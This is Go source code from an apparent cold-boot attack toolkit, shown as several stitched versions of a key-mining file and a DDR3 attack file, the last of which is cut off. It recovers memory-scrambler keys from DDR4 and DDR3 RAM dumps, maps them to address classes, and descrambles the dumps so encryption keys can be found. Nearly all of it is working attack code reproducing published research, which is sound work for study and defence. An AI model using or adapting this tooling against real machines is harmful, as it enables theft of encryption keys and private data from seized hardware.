		target.positions = append(target.positions, g.positions...)
	}

	for _, c := range canon {
		if c.total < opt.MinCount {
			continue
		}
		key := make([]byte, BlockBytes)
		for bit := 0; bit < BlockBytes*8; bit++ {
			if 2*c.votes[bit] > c.total {
				key[bit/8] |= 1 << uint(bit%8)
			}
		}
		sort.Ints(c.positions)
		res.Keys = append(res.Keys, MinedKey{Key: key, Count: c.total, Positions: c.positions})
	}
	sort.Slice(res.Keys, func(i, j int) bool {
		if res.Keys[i].Count != res.Keys[j].Count {
			return res.Keys[i].Count > res.Keys[j].Count
		}
		return string(res.Keys[i].Key) < string(res.Keys[j].Key)
	})
	return res, nil
}

// InferStride estimates the key-reuse period, in blocks, from the positions
// of repeated keys: sightings of the same key lie a multiple of the key
// pool size apart (4096 blocks per channel on Skylake; twice that in a
// dual-channel interleaved dump). Returns 0 if no key repeats.
//
// This is how an attacker who "has no knowledge of which memory blocks
// share the same scrambler key" (the paper's attack model) discovers the
// sharing structure anyway: the mined keys themselves reveal it.
func (r *MineResult) InferStride() int {
	g := 0
	for _, k := range r.Keys {
		for i := 1; i < len(k.Positions); i++ {
			d := k.Positions[i] - k.Positions[0]
			g = gcd(g, d)
		}
	}
	return g
}

// KeysByResidue indexes the mined keys by block-position residue modulo the
// stride, producing the per-address-class key table the fast attack path
// uses. Keys sighted at multiple residues (possible under heavy decay
// merging) are listed under each.
func (r *MineResult) KeysByResidue(stride int) map[int][]MinedKey {
	if stride <= 0 {
		return nil
	}
	out := make(map[int][]MinedKey)
	for _, k := range r.Keys {
		seen := make(map[int]bool)
		for _, p := range k.Positions {
			res := p % stride
			if !seen[res] {
				seen[res] = true
				out[res] = append(out[res], k)
			}
		}
	}
	return out
}

// Coverage reports the fraction of residue classes (out of stride) for
// which at least one key was mined — the fraction of the address space the
// attack can descramble.
func (r *MineResult) Coverage(stride int) float64 {
	if stride <= 0 {
		return 0
	}
	return float64(len(r.KeysByResidue(stride))) / float64(stride)
}

func gcd(a, b int) int {
	if a < 0 {
		a = -a
	}
	if b < 0 {
		b = -b
	}
	for b != 0 {
		a, b = b, a%b
	}
	return a
}
