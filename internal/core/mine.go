package core

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"sort"

	"coldboot/internal/bitutil"
)

// MinedKey is one distinct scrambler keystream value recovered from a dump.
type MinedKey struct {
	Key       []byte // 64 bytes; majority-voted across all sightings
	Count     int    // number of blocks that exposed this key
	Positions []int  // block indices of the sightings
}

// MineOptions tunes the key miner.
type MineOptions struct {
	// Tolerance is the litmus bit-flip budget per block (default
	// DefaultLitmusTolerance).
	Tolerance int
	// MergeDistance is the maximum hamming distance at which two mined
	// blocks are treated as decayed copies of the same key (default 16;
	// distinct scrambler keys differ in ~256 bits, so even generous merge
	// radii cannot conflate them).
	MergeDistance int
	// MinCount drops keys seen fewer than this many times; the paper notes
	// candidates "that occur more frequently are likely keys" (default 1,
	// i.e. keep everything — the AES stage filters false positives anyway).
	MinCount int
	// MaxBytes limits mining to the first MaxBytes of the dump (0 = all).
	// The paper mined every key from under 16 MB of a loaded system.
	MaxBytes int
}

func (o MineOptions) withDefaults() MineOptions {
	if o.Tolerance == 0 {
		o.Tolerance = DefaultLitmusTolerance
	}
	if o.MergeDistance == 0 {
		o.MergeDistance = 16
	}
	if o.MinCount == 0 {
		o.MinCount = 1
	}
	return o
}

// MineResult holds the miner's output.
type MineResult struct {
	Keys          []MinedKey // sorted by Count descending
	BlocksScanned int
	BlocksPassed  int // blocks that passed the litmus test
}

// MineKeys scans a scrambled memory dump for blocks that pass the
// scrambler-key litmus test — zero-filled memory exposes raw keystream —
// and aggregates the sightings into distinct keys. Repeated sightings of
// the same (possibly decayed) key are merged by bitwise majority vote,
// which is the paper's "filter out modest bit flips with minimal effort".
func MineKeys(dump []byte, opt MineOptions) (*MineResult, error) {
	return MineKeysContext(context.Background(), dump, opt)
}

// MineKeysContext is MineKeys with cancellation: the block scan checks ctx
// every mineCancelInterval blocks. A cancelled mine returns the result
// aggregated from the blocks scanned so far together with ctx.Err().
func MineKeysContext(ctx context.Context, dump []byte, opt MineOptions) (*MineResult, error) {
	if len(dump)%BlockBytes != 0 {
		return nil, fmt.Errorf("core: dump length %d not block aligned", len(dump))
	}
	return MineKeysSource(ctx, BytesSource(dump), opt)
}

// mineCancelInterval is how many blocks the mining scan processes between
// context checks (64 KiB of dump — well under a millisecond of work).
const mineCancelInterval = 1024

// MineKeysSource is the streaming miner: it reads the image window by
// window from src, so multi-GB dumps mine in constant memory. MineKeys and
// MineKeysContext are thin wrappers over an in-memory source.
func MineKeysSource(ctx context.Context, src BlockSource, opt MineOptions) (*MineResult, error) {
	if src == nil {
		return nil, fmt.Errorf("core: nil dump source")
	}
	opt = opt.withDefaults()
	limitBlocks := src.Blocks()
	if opt.MaxBytes > 0 && opt.MaxBytes/BlockBytes < limitBlocks {
		limitBlocks = opt.MaxBytes / BlockBytes
	}

	m := newMiner(opt)
	window := make([]byte, 0) // lazily sized; a slice source never needs it
	for first := 0; first < limitBlocks; first += mineCancelInterval {
		if err := ctx.Err(); err != nil {
			return m.finish(), err
		}
		n := mineCancelInterval
		if first+n > limitBlocks {
			n = limitBlocks - first
		}
		var chunk []byte
		if s, ok := src.(sliceSource); ok {
			chunk = s.slice(first, n)
		} else {
			if cap(window) < n*BlockBytes {
				window = make([]byte, mineCancelInterval*BlockBytes)
			}
			chunk = window[:n*BlockBytes]
			if err := src.ReadBlocks(first, chunk); err != nil {
				return m.finish(), fmt.Errorf("core: reading mine window at block %d: %w", first, err)
			}
		}
		for b := 0; b < n; b++ {
			m.observe(chunk[b*BlockBytes:(b+1)*BlockBytes], first+b)
		}
	}
	return m.finish(), nil
}

// miner is the incremental key-mining state: blocks are fed in ascending
// index order via observe, and finish aggregates the sightings. Splitting
// the miner from the scan loop lets the resident and streaming paths share
// exactly the same logic (so their outputs are bit-identical).
//
// The representation is flat: unique block contents live in one append-only
// slab addressed through an open-addressed probe table, and each passing
// block records only (group, position) pairs. Observing a block costs one
// hash and (usually) one probe — no per-block allocation, no map-key string
// copies — and the structures double geometrically, so a multi-GB scan's
// allocation count stays logarithmic.
type miner struct {
	opt MineOptions
	res *MineResult
	// slab holds each distinct content group's representative, BlockBytes
	// per group, in first-sighting order.
	slab []byte
	// hashes and counts are per-group content hash and sighting count.
	hashes []uint32
	counts []int32
	// probe is the open-addressed group index: entry = group+1, 0 = empty,
	// linear probing, load factor kept under 1/2.
	probe []int32
	// obsGroup/obsPos log every passing block in scan order (ascending
	// positions), partitioned per key in finish.
	obsGroup []int32
	obsPos   []int
}

func newMiner(opt MineOptions) *miner {
	return &miner{opt: opt, res: &MineResult{}, probe: make([]int32, 1024)}
}

// hashBlock is FNV-1a over the block's eight 64-bit words, folded to 32
// bits. Scrambler keystream is high-entropy, so this distributes well.
func hashBlock(b []byte) uint32 {
	const prime = 1099511628211
	h := uint64(14695981039346656037)
	for i := 0; i+8 <= BlockBytes; i += 8 {
		h ^= binary.LittleEndian.Uint64(b[i:])
		h *= prime
	}
	return uint32(h ^ h>>32)
}

// rep returns group g's representative content (read-only slab view).
func (m *miner) rep(g int32) []byte {
	return m.slab[int(g)*BlockBytes : int(g)*BlockBytes+BlockBytes]
}

// observe feeds one 64-byte block at blockIdx into pass 1 (exact grouping
// of litmus-passing blocks).
func (m *miner) observe(block []byte, blockIdx int) {
	m.res.BlocksScanned++
	if !PassesKeyLitmus(block, m.opt.Tolerance) {
		return
	}
	m.res.BlocksPassed++
	h := hashBlock(block)
	mask := uint32(len(m.probe) - 1)
	i := h & mask
	g := int32(-1)
	for m.probe[i] != 0 {
		cand := m.probe[i] - 1
		if m.hashes[cand] == h && bytes.Equal(m.rep(cand), block) {
			g = cand
			break
		}
		i = (i + 1) & mask
	}
	if g < 0 {
		g = int32(len(m.hashes))
		m.slab = append(m.slab, block...)
		m.hashes = append(m.hashes, h)
		m.counts = append(m.counts, 0)
		m.probe[i] = g + 1
		if int(g+1)*2 >= len(m.probe) {
			m.growProbe()
		}
	}
	m.counts[g]++
	m.obsGroup = append(m.obsGroup, g)
	m.obsPos = append(m.obsPos, blockIdx)
}

func (m *miner) growProbe() {
	np := make([]int32, len(m.probe)*2)
	mask := uint32(len(np) - 1)
	for g := range m.hashes {
		i := m.hashes[g] & mask
		for np[i] != 0 {
			i = (i + 1) & mask
		}
		np[i] = int32(g) + 1
	}
	m.probe = np
}

// finish runs pass 2 — merge near-duplicate groups (decayed copies) into
// canonical keys, largest groups first so canonicals are the least-decayed
// representatives — and returns the completed result. The output is
// bit-identical to the straightforward map-and-rescan aggregation (the
// parity tests pin this), but the near-duplicate search is segment-indexed
// instead of quadratic and positions are partitioned in one counting pass.
func (m *miner) finish() *MineResult {
	res := m.res
	nGroups := len(m.hashes)
	// Process groups by (count desc, rep asc) so canonicals are the
	// least-decayed representatives.
	order := make([]int32, nGroups)
	for i := range order {
		order[i] = int32(i)
	}
	sort.Slice(order, func(i, j int) bool {
		a, b := order[i], order[j]
		if m.counts[a] != m.counts[b] {
			return m.counts[a] > m.counts[b]
		}
		return bytes.Compare(m.rep(a), m.rep(b)) < 0
	})

	cm := newCanonMerger(m.opt.MergeDistance, nGroups)
	groupCanon := make([]int32, nGroups)
	for _, g := range order {
		groupCanon[g] = cm.add(m.rep(g), int(m.counts[g]))
	}

	// Partition the observation log by canonical key. The log is in scan
	// order, so each partition comes out in ascending position order.
	nCanon := len(cm.canon)
	canonTotal := make([]int, nCanon)
	for _, g := range m.obsGroup {
		canonTotal[groupCanon[g]]++
	}
	offsets := make([]int, nCanon+1)
	for c := 0; c < nCanon; c++ {
		offsets[c+1] = offsets[c] + canonTotal[c]
	}
	posSlab := make([]int, len(m.obsPos))
	fill := make([]int, nCanon)
	for oi, g := range m.obsGroup {
		c := groupCanon[g]
		posSlab[offsets[c]+fill[c]] = m.obsPos[oi]
		fill[c]++
	}

	// Emit keys: single-group canonicals ARE their representative; merged
	// ones take the per-bit weighted majority. Key bytes share one slab.
	nFinal := 0
	for c := 0; c < nCanon; c++ {
		if canonTotal[c] >= m.opt.MinCount {
			nFinal++
		}
	}
	keySlab := make([]byte, 0, nFinal*BlockBytes)
	res.Keys = nil
	for c := 0; c < nCanon; c++ {
		total := canonTotal[c]
		if total < m.opt.MinCount {
			continue
		}
		base := len(keySlab)
		e := &cm.canon[c]
		if e.votes == nil {
			keySlab = append(keySlab, e.rep...)
		} else {
			for bit := 0; bit < BlockBytes*8; bit++ {
				if bit%8 == 0 {
					keySlab = append(keySlab, 0)
				}
				if 2*int(e.votes[bit]) > total {
					keySlab[base+bit/8] |= 1 << uint(bit%8)
				}
			}
		}
		res.Keys = append(res.Keys, MinedKey{
			Key:       keySlab[base : base+BlockBytes : base+BlockBytes],
			Count:     total,
			Positions: posSlab[offsets[c]:offsets[c+1]:offsets[c+1]],
		})
	}
	sort.Slice(res.Keys, func(i, j int) bool {
		if res.Keys[i].Count != res.Keys[j].Count {
			return res.Keys[i].Count > res.Keys[j].Count
		}
		return string(res.Keys[i].Key) < string(res.Keys[j].Key)
	})
	return res
}

// canonMerger folds near-duplicate groups into canonical keys. The merge
// rule is the reference one — a group joins the FIRST (lowest-index)
// canonical whose representative is within MergeDistance bits — but
// candidates are found through a segment index instead of scanning every
// canonical: split the 64-byte representative into MergeDistance+1 byte
// segments, and any block within MergeDistance BIT flips must match at
// least one segment exactly (pigeonhole: d flipped bits touch at most d
// segments). Looking up each segment's hash yields every possible match;
// NearEqual confirms, and the minimum confirmed index reproduces the
// reference's first-match semantics.
type canonMerger struct {
	md    int
	segs  int
	canon []canonEntry
	// segTable is open-addressed with packed entries:
	// uint64(segHash) | uint64(canonIdx+1)<<32. Zero = empty. Sized for
	// every group becoming a canonical, so it never grows.
	segTable []uint64
	// linear falls back to the reference scan when segments would be
	// narrower than one byte (enormous MergeDistance).
	linear bool
}

// canonEntry is one canonical key: votes stays nil until a second distinct
// content merges in (the overwhelmingly common case is exactly one), at
// which point the per-bit tally is materialized from the representative.
type canonEntry struct {
	rep    []byte
	repN   int32 // sighting count of the first (representative) group
	votes  []int32
	merged bool
}

func newCanonMerger(mergeDistance, nGroups int) *canonMerger {
	cm := &canonMerger{md: mergeDistance, segs: mergeDistance + 1}
	if cm.segs > BlockBytes || cm.segs < 1 {
		cm.linear = true
		return cm
	}
	size := 1024
	for size < nGroups*cm.segs*2 {
		size *= 2
	}
	cm.segTable = make([]uint64, size)
	return cm
}

// segBounds returns segment s's byte range within a representative.
func (cm *canonMerger) segBounds(s int) (int, int) {
	return s * BlockBytes / cm.segs, (s + 1) * BlockBytes / cm.segs
}

// segHash hashes one segment, salted by its index so equal bytes in
// different segments don't collide into shared buckets.
func segHash(s int, seg []byte) uint32 {
	const prime = 1099511628211
	h := uint64(14695981039346656037) ^ uint64(s)*prime
	for _, b := range seg {
		h ^= uint64(b)
		h *= prime
	}
	h *= prime
	return uint32(h ^ h>>32)
}

// add merges one group (processed in reference order) and returns its
// canonical index.
func (cm *canonMerger) add(rep []byte, n int) int32 {
	c := cm.lookup(rep)
	if c < 0 {
		c = int32(len(cm.canon))
		cm.canon = append(cm.canon, canonEntry{rep: rep, repN: int32(n)})
		cm.insertSegs(rep, c)
		return c
	}
	e := &cm.canon[c]
	if e.votes == nil {
		// Second distinct content: materialize the tally from the
		// representative's own sightings before adding the newcomer's.
		e.votes = make([]int32, BlockBytes*8)
		addVotes(e.votes, e.rep, e.repN)
	}
	addVotes(e.votes, rep, int32(n))
	e.merged = true
	return c
}

func addVotes(votes []int32, rep []byte, n int32) {
	for bit := 0; bit < BlockBytes*8; bit++ {
		if rep[bit/8]&(1<<uint(bit%8)) != 0 {
			votes[bit] += n
		}
	}
}

// lookup returns the lowest canonical index within MergeDistance of rep,
// or -1.
func (cm *canonMerger) lookup(rep []byte) int32 {
	if cm.linear {
		for c := range cm.canon {
			if bitutil.NearEqual(cm.canon[c].rep, rep, cm.md) {
				return int32(c)
			}
		}
		return -1
	}
	best := int32(-1)
	mask := uint32(len(cm.segTable) - 1)
	for s := 0; s < cm.segs; s++ {
		lo, hi := cm.segBounds(s)
		h := segHash(s, rep[lo:hi])
		for i := h & mask; cm.segTable[i] != 0; i = (i + 1) & mask {
			if uint32(cm.segTable[i]) != h {
				continue
			}
			c := int32(cm.segTable[i]>>32) - 1
			if best >= 0 && c >= best {
				continue
			}
			if bitutil.NearEqual(cm.canon[c].rep, rep, cm.md) {
				best = c
			}
		}
	}
	return best
}

func (cm *canonMerger) insertSegs(rep []byte, c int32) {
	mask := uint32(len(cm.segTable) - 1)
	for s := 0; s < cm.segs; s++ {
		lo, hi := cm.segBounds(s)
		h := segHash(s, rep[lo:hi])
		i := h & mask
		for cm.segTable[i] != 0 {
			i = (i + 1) & mask
		}
		cm.segTable[i] = uint64(h) | uint64(c+1)<<32
	}
}

// InferStride estimates the key-reuse period, in blocks, from the positions
// of repeated keys: sightings of the same key lie a multiple of the key
// pool size apart (4096 blocks per channel on Skylake; twice that in a
// dual-channel interleaved dump). Returns 0 if no key repeats.
//
// This is how an attacker who "has no knowledge of which memory blocks
// share the same scrambler key" (the paper's attack model) discovers the
// sharing structure anyway: the mined keys themselves reveal it.
func (r *MineResult) InferStride() int {
	g := 0
	for _, k := range r.Keys {
		for i := 1; i < len(k.Positions); i++ {
			d := k.Positions[i] - k.Positions[0]
			g = gcd(g, d)
		}
	}
	return g
}

// KeysByResidue indexes the mined keys by block-position residue modulo the
// stride, producing the per-address-class key table the fast attack path
// uses. Keys sighted at multiple residues (possible under heavy decay
// merging) are listed under each.
func (r *MineResult) KeysByResidue(stride int) map[int][]MinedKey {
	if stride <= 0 {
		return nil
	}
	out := make(map[int][]MinedKey)
	for _, k := range r.Keys {
		seen := make(map[int]bool)
		for _, p := range k.Positions {
			res := p % stride
			if !seen[res] {
				seen[res] = true
				out[res] = append(out[res], k)
			}
		}
	}
	return out
}

// Coverage reports the fraction of residue classes (out of stride) for
// which at least one key was mined — the fraction of the address space the
// attack can descramble.
func (r *MineResult) Coverage(stride int) float64 {
	if stride <= 0 {
		return 0
	}
	// Equivalent to len(KeysByResidue(stride))/stride, without building the
	// per-residue map: count residues with at least one sighting.
	covered := make([]bool, stride)
	n := 0
	for _, k := range r.Keys {
		for _, p := range k.Positions {
			if res := p % stride; !covered[res] {
				covered[res] = true
				n++
			}
		}
	}
	return float64(n) / float64(stride)
}

func gcd(a, b int) int {
	if a < 0 {
		a = -a
	}
	if b < 0 {
		b = -b
	}
	for b != 0 {
		a, b = b, a%b
	}
	return a
}
