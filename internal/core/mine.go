package core

import (
	"context"
	"fmt"
	"sort"

	"coldboot/internal/bitutil"
)

// MinedKey is one distinct scrambler keystream value recovered from a dump.
type MinedKey struct {
	Key       []byte // 64 bytes; majority-voted across all sightings
	Count     int    // number of blocks that exposed this key
	Positions []int  // block indices of the sightings
}

// MineOptions tunes the key miner.
type MineOptions struct {
	// Tolerance is the litmus bit-flip budget per block (default
	// DefaultLitmusTolerance).
	Tolerance int
	// MergeDistance is the maximum hamming distance at which two mined
	// blocks are treated as decayed copies of the same key (default 16;
	// distinct scrambler keys differ in ~256 bits, so even generous merge
	// radii cannot conflate them).
	MergeDistance int
	// MinCount drops keys seen fewer than this many times; the paper notes
	// candidates "that occur more frequently are likely keys" (default 1,
	// i.e. keep everything — the AES stage filters false positives anyway).
	MinCount int
	// MaxBytes limits mining to the first MaxBytes of the dump (0 = all).
	// The paper mined every key from under 16 MB of a loaded system.
	MaxBytes int
}

func (o MineOptions) withDefaults() MineOptions {
	if o.Tolerance == 0 {
		o.Tolerance = DefaultLitmusTolerance
	}
	if o.MergeDistance == 0 {
		o.MergeDistance = 16
	}
	if o.MinCount == 0 {
		o.MinCount = 1
	}
	return o
}

// MineResult holds the miner's output.
type MineResult struct {
	Keys          []MinedKey // sorted by Count descending
	BlocksScanned int
	BlocksPassed  int // blocks that passed the litmus test
}

// MineKeys scans a scrambled memory dump for blocks that pass the
// scrambler-key litmus test — zero-filled memory exposes raw keystream —
// and aggregates the sightings into distinct keys. Repeated sightings of
// the same (possibly decayed) key are merged by bitwise majority vote,
// which is the paper's "filter out modest bit flips with minimal effort".
func MineKeys(dump []byte, opt MineOptions) (*MineResult, error) {
	return MineKeysContext(context.Background(), dump, opt)
}

// MineKeysContext is MineKeys with cancellation: the block scan checks ctx
// every mineCancelInterval blocks. A cancelled mine returns the result
// aggregated from the blocks scanned so far together with ctx.Err().
func MineKeysContext(ctx context.Context, dump []byte, opt MineOptions) (*MineResult, error) {
	if len(dump)%BlockBytes != 0 {
		return nil, fmt.Errorf("core: dump length %d not block aligned", len(dump))
	}
	return MineKeysSource(ctx, BytesSource(dump), opt)
}

// mineCancelInterval is how many blocks the mining scan processes between
// context checks (64 KiB of dump — well under a millisecond of work).
const mineCancelInterval = 1024

// MineKeysSource is the streaming miner: it reads the image window by
// window from src, so multi-GB dumps mine in constant memory. MineKeys and
// MineKeysContext are thin wrappers over an in-memory source.
func MineKeysSource(ctx context.Context, src BlockSource, opt MineOptions) (*MineResult, error) {
	if src == nil {
		return nil, fmt.Errorf("core: nil dump source")
	}
	opt = opt.withDefaults()
	limitBlocks := src.Blocks()
	if opt.MaxBytes > 0 && opt.MaxBytes/BlockBytes < limitBlocks {
		limitBlocks = opt.MaxBytes / BlockBytes
	}

	m := newMiner(opt)
	window := make([]byte, 0) // lazily sized; a slice source never needs it
	for first := 0; first < limitBlocks; first += mineCancelInterval {
		if err := ctx.Err(); err != nil {
			return m.finish(), err
		}
		n := mineCancelInterval
		if first+n > limitBlocks {
			n = limitBlocks - first
		}
		var chunk []byte
		if s, ok := src.(sliceSource); ok {
			chunk = s.slice(first, n)
		} else {
			if cap(window) < n*BlockBytes {
				window = make([]byte, mineCancelInterval*BlockBytes)
			}
			chunk = window[:n*BlockBytes]
			if err := src.ReadBlocks(first, chunk); err != nil {
				return m.finish(), fmt.Errorf("core: reading mine window at block %d: %w", first, err)
			}
		}
		for b := 0; b < n; b++ {
			m.observe(chunk[b*BlockBytes:(b+1)*BlockBytes], first+b)
		}
	}
	return m.finish(), nil
}

// miner is the incremental key-mining state: blocks are fed in ascending
// index order via observe, and finish aggregates the sightings. Splitting
// the miner from the scan loop lets the resident and streaming paths share
// exactly the same logic (so their outputs are bit-identical).
type miner struct {
	opt   MineOptions
	res   *MineResult
	exact map[string][]int
}

func newMiner(opt MineOptions) *miner {
	return &miner{opt: opt, res: &MineResult{}, exact: make(map[string][]int)}
}

// observe feeds one 64-byte block at blockIdx into pass 1 (exact grouping
// of litmus-passing blocks).
func (m *miner) observe(block []byte, blockIdx int) {
	m.res.BlocksScanned++
	if !PassesKeyLitmus(block, m.opt.Tolerance) {
		return
	}
	m.res.BlocksPassed++
	m.exact[string(block)] = append(m.exact[string(block)], blockIdx)
}

// finish runs pass 2 — merge near-duplicate groups (decayed copies) into
// canonical keys, largest groups first so canonicals are the least-decayed
// representatives — and returns the completed result.
func (m *miner) finish() *MineResult {
	res := m.res
	type group struct {
		rep       []byte
		positions []int
	}
	groups := make([]group, 0, len(m.exact))
	for k, pos := range m.exact {
		groups = append(groups, group{rep: []byte(k), positions: pos})
	}
	sort.Slice(groups, func(i, j int) bool {
		if len(groups[i].positions) != len(groups[j].positions) {
			return len(groups[i].positions) > len(groups[j].positions)
		}
		return string(groups[i].rep) < string(groups[j].rep)
	})

	type canonical struct {
		votes     [BlockBytes * 8]int // per-bit one-votes
		total     int
		positions []int
		rep       []byte
	}
	var canon []*canonical
	for _, g := range groups {
		var target *canonical
		for _, c := range canon {
			if bitutil.NearEqual(c.rep, g.rep, m.opt.MergeDistance) {
				target = c
				break
			}
		}
		if target == nil {
			target = &canonical{rep: append([]byte{}, g.rep...)}
			canon = append(canon, target)
		}
		n := len(g.positions)
		for bit := 0; bit < BlockBytes*8; bit++ {
			if g.rep[bit/8]&(1<<uint(bit%8)) != 0 {
				target.votes[bit] += n
			}
		}
		target.total += n
		target.positions = append(target.positions, g.positions...)
	}

	res.Keys = nil
	for _, c := range canon {
		if c.total < m.opt.MinCount {
			continue
		}
		key := make([]byte, BlockBytes)
		for bit := 0; bit < BlockBytes*8; bit++ {
			if 2*c.votes[bit] > c.total {
				key[bit/8] |= 1 << uint(bit%8)
			}
		}
		sort.Ints(c.positions)
		res.Keys = append(res.Keys, MinedKey{Key: key, Count: c.total, Positions: c.positions})
	}
	sort.Slice(res.Keys, func(i, j int) bool {
		if res.Keys[i].Count != res.Keys[j].Count {
			return res.Keys[i].Count > res.Keys[j].Count
		}
		return string(res.Keys[i].Key) < string(res.Keys[j].Key)
	})
	return res
}

// InferStride estimates the key-reuse period, in blocks, from the positions
// of repeated keys: sightings of the same key lie a multiple of the key
// pool size apart (4096 blocks per channel on Skylake; twice that in a
// dual-channel interleaved dump). Returns 0 if no key repeats.
//
// This is how an attacker who "has no knowledge of which memory blocks
// share the same scrambler key" (the paper's attack model) discovers the
// sharing structure anyway: the mined keys themselves reveal it.
func (r *MineResult) InferStride() int {
	g := 0
	for _, k := range r.Keys {
		for i := 1; i < len(k.Positions); i++ {
			d := k.Positions[i] - k.Positions[0]
			g = gcd(g, d)
		}
	}
	return g
}

// KeysByResidue indexes the mined keys by block-position residue modulo the
// stride, producing the per-address-class key table the fast attack path
// uses. Keys sighted at multiple residues (possible under heavy decay
// merging) are listed under each.
func (r *MineResult) KeysByResidue(stride int) map[int][]MinedKey {
	if stride <= 0 {
		return nil
	}
	out := make(map[int][]MinedKey)
	for _, k := range r.Keys {
		seen := make(map[int]bool)
		for _, p := range k.Positions {
			res := p % stride
			if !seen[res] {
				seen[res] = true
				out[res] = append(out[res], k)
			}
		}
	}
	return out
}

// Coverage reports the fraction of residue classes (out of stride) for
// which at least one key was mined — the fraction of the address space the
// attack can descramble.
func (r *MineResult) Coverage(stride int) float64 {
	if stride <= 0 {
		return 0
	}
	return float64(len(r.KeysByResidue(stride))) / float64(stride)
}

func gcd(a, b int) int {
	if a < 0 {
		a = -a
	}
	if b < 0 {
		b = -b
	}
	for b != 0 {
		a, b = b, a%b
	}
	return a
}
