package core

// DDR3 baseline attack, after Bauer et al. ("Lest We Forget: Cold-Boot
// Attacks on Scrambled DDR3 Memory"), which the paper reproduces as its
// point of comparison. The DDR3 scrambler's 16-key pool and affine key
// structure allow two much simpler attacks than the DDR4 pipeline:
//
//   - frequency analysis: zeros dominate memory content, so the most
//     frequent stored value within each address class IS that class's key;
//   - the universal reboot key: the XOR of two boots' dumps of the same
//     memory collapses to a single 64-byte key for the entire memory.

import (
	"fmt"

	"coldboot/internal/bitutil"
)

// DDR3KeyCount is the DDR3 scrambler pool size.
const DDR3KeyCount = 16

// MineDDR3Keys recovers the 16 per-class scrambler keys from a scrambled
// DDR3 dump by frequency analysis: for each block-index residue class
// modulo 16, the most common stored 64-byte value is (zero XOR key) = key.
func MineDDR3Keys(dump []byte) ([DDR3KeyCount][]byte, error) {
	var keys [DDR3KeyCount][]byte
	if len(dump)%BlockBytes != 0 {
		return keys, fmt.Errorf("core: dump length %d not block aligned", len(dump))
	}
	counts := make([]map[string]int, DDR3KeyCount)
	for i := range counts {
		counts[i] = make(map[string]int)
	}
	nBlocks := len(dump) / BlockBytes
	for b := 0; b < nBlocks; b++ {
		cls := b % DDR3KeyCount
		counts[cls][string(dump[b*BlockBytes:(b+1)*BlockBytes])]++
	}
	for cls := range keys {
		best, bestN := "", -1
		for v, n := range counts[cls] {
			if n > bestN || (n == bestN && v < best) {
				best, bestN = v, n
			}
		}
		if bestN <= 0 {
			return keys, fmt.Errorf("core: no blocks in class %d", cls)
		}
		keys[cls] = []byte(best)
	}
	return keys, nil
}

// UniversalRebootKey recovers the single 64-byte key that a DDR3 reboot
// XOR image is scrambled with (Figure 3c): the most frequent 64-byte block
// value in xorDump. For unchanged memory regions the data cancels exactly,
// so the universal key appears wherever content was stable across boots.
func UniversalRebootKey(xorDump []byte) ([]byte, error) {
	if len(xorDump)%BlockBytes != 0 || len(xorDump) == 0 {
		return nil, fmt.Errorf("core: bad XOR dump length %d", len(xorDump))
	}
	counts := make(map[string]int)
	for b := 0; b < len(xorDump)/BlockBytes; b++ {
		counts[string(xorDump[b*BlockBytes:(b+1)*BlockBytes])]++
	}
	best, bestN := "", -1
	for v, n := range counts {
		if n > bestN || (n == bestN && v < best) {
			best, bestN = v, n
		}
	}
	return []byte(best), nil
}

// DescrambleDDR3 applies the recovered 16-key pool to a scrambled dump,
// returning the plaintext memory image ready for a conventional
// (Halderman-style) key scan.
func DescrambleDDR3(dump []byte, keys [DDR3KeyCount][]byte) ([]byte, error) {
	if len(dump)%BlockBytes != 0 {
		return nil, fmt.Errorf("core: dump length %d not block aligned", len(dump))
	}
	for i, k := range keys {
		if len(k) != BlockBytes {
			return nil, fmt.Errorf("core: key %d has length %d", i, len(k))
		}
	}
	out := make([]byte, len(dump))
	for b := 0; b < len(dump)/BlockBytes; b++ {
		key := keys[b%DDR3KeyCount]
		bitutil.XOR(out[b*BlockBytes:(b+1)*BlockBytes], dump[b*BlockBytes:(b+1)*BlockBytes], key)
	}
	return out, nil
}
