package core

// DDR3 baseline attack, after Bauer et al. ("Lest We Forget: Cold-Boot
// Attacks on Scrambled DDR3 Memory"), which the paper reproduces as its
// point of comparison. The DDR3 scrambler's 16-key pool and affine key
// structure allow two much simpler attacks than the DDR4 pipeline:
//
//   - frequency analysis: zeros dominate memory content, so the most
//     frequent stored value within each address class IS that class's key;
//   - the universal reboot key: the XOR of two boots' dumps of the same
//     memory collapses to a single 64-byte key for the entire memory.

import (
	"context"
	"fmt"

	"coldboot/internal/bitutil"
)

// DDR3KeyCount is the DDR3 scrambler pool size.
const DDR3KeyCount = 16

// ddr3PollBlocks is how many 64-byte blocks the DDR3 passes process between
// context polls: 16 Ki blocks = 1 MiB, a few hundred microseconds of work.
const ddr3PollBlocks = 1 << 14

// MineDDR3Keys is MineDDR3KeysContext without cancellation, kept for
// callers that have no context to thread.
func MineDDR3Keys(dump []byte) ([DDR3KeyCount][]byte, error) {
	return MineDDR3KeysContext(context.Background(), dump)
}

// MineDDR3KeysContext recovers the 16 per-class scrambler keys from a
// scrambled DDR3 dump by frequency analysis: for each block-index residue
// class modulo 16, the most common stored 64-byte value is
// (zero XOR key) = key. The pass over the dump polls ctx every
// ddr3PollBlocks blocks; a cancelled mine returns ctx.Err().
func MineDDR3KeysContext(ctx context.Context, dump []byte) ([DDR3KeyCount][]byte, error) {
	var keys [DDR3KeyCount][]byte
	if len(dump)%BlockBytes != 0 {
		return keys, fmt.Errorf("core: dump length %d not block aligned", len(dump))
	}
	counts := make([]map[string]int, DDR3KeyCount)
	for i := range counts {
		counts[i] = make(map[string]int)
	}
	nBlocks := len(dump) / BlockBytes
	for b := 0; b < nBlocks; b++ {
		if b%ddr3PollBlocks == 0 {
			if err := ctx.Err(); err != nil {
				return keys, err
			}
		}
		cls := b % DDR3KeyCount
		counts[cls][string(dump[b*BlockBytes:(b+1)*BlockBytes])]++
	}
	for cls := range keys {
		best, bestN := "", -1
		for v, n := range counts[cls] {
			if n > bestN || (n == bestN && v < best) {
				best, bestN = v, n
			}
		}
		if bestN <= 0 {
			return keys, fmt.Errorf("core: no blocks in class %d", cls)
		}
		keys[cls] = []byte(best)
	}
	return keys, nil
}

// UniversalRebootKey is UniversalRebootKeyContext without cancellation.
func UniversalRebootKey(xorDump []byte) ([]byte, error) {
	return UniversalRebootKeyContext(context.Background(), xorDump)
}

// UniversalRebootKeyContext recovers the single 64-byte key that a DDR3
// reboot XOR image is scrambled with (Figure 3c): the most frequent 64-byte
// block value in xorDump. For unchanged memory regions the data cancels
// exactly, so the universal key appears wherever content was stable across
// boots. The frequency pass polls ctx every ddr3PollBlocks blocks.
